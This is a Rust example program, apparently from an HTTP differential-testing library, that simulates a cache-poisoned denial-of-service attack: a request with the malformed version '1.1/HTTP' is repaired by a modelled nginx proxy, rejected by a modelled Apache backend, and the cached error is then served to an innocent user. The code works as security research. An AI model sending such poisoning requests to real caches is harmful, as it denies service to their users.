//! CPDoS hunt with an explicit cache-poisoning demonstration: drive an
//! error-inducing request through a proxy chain, then show that a normal
//! user's follow-up request is answered from the poisoned cache.
//!
//! ```sh
//! cargo run --release --example cpdos_cache
//! ```

use hdiff::servers::cache::CacheKey;
use hdiff::servers::{product, ProductId, Proxy, Server};
use hdiff::wire::Request;

fn main() {
    println!("HDiff CPDoS hunt — poisoning the nginx cache via version repair\n");

    // The attacker's request: invalid HTTP-version that nginx "repairs" by
    // appending its own version after the bad token.
    let mut attack = Request::get("victim.com");
    attack.set_version(b"1.1/HTTP");
    let attack_bytes = attack.to_bytes();
    println!("attacker sends:\n  {}\n", hdiff::wire::ascii::escape_bytes(&attack_bytes));

    let mut proxy = Proxy::new(product(ProductId::Nginx));
    let backend = Server::new(product(ProductId::Apache));

    let result = proxy.forward(&attack_bytes);
    let forwarded =
        result.action.forwarded().expect("nginx accepts and repairs the bad version").to_vec();
    println!("nginx repairs and forwards:\n  {}\n", hdiff::wire::ascii::escape_bytes(&forwarded));

    let reply = backend.handle(&forwarded);
    println!(
        "apache (backend) answers: {} {}\n",
        reply.response.status,
        String::from_utf8_lossy(&reply.response.to_response().body)
    );
    assert!(reply.response.status.is_error(), "backend must reject the repaired line");

    // The proxy caches the error under the victim's key.
    let key = CacheKey::new(
        result.interpretation.host.clone().unwrap_or_default(),
        result.interpretation.target.clone(),
    );
    let decision = proxy.cache.store(
        key.clone(),
        &result.interpretation.method,
        &result.interpretation.version,
        &reply.response,
    );
    println!("nginx cache store decision: {decision:?}");

    // An innocent user now asks for the same resource.
    let innocent = Request::get("victim.com");
    let innocent_interp =
        hdiff::servers::interpret(&product(ProductId::Nginx), &innocent.to_bytes());
    let innocent_key = CacheKey::new(
        innocent_interp.host.clone().unwrap_or_default(),
        innocent_interp.target.clone(),
    );
    match proxy.cache.lookup(&innocent_key) {
        Some(poisoned) => {
            println!(
                "\ninnocent GET /victim.com is served from cache: {} — DENIAL OF SERVICE",
                poisoned.status
            );
            assert!(poisoned.status.is_error());
        }
        None => println!("\ncache miss — no poisoning (unexpected)"),
    }

    println!("\npoisoned entries in the nginx cache: {}", proxy.cache.poisoned_entries().len());
}
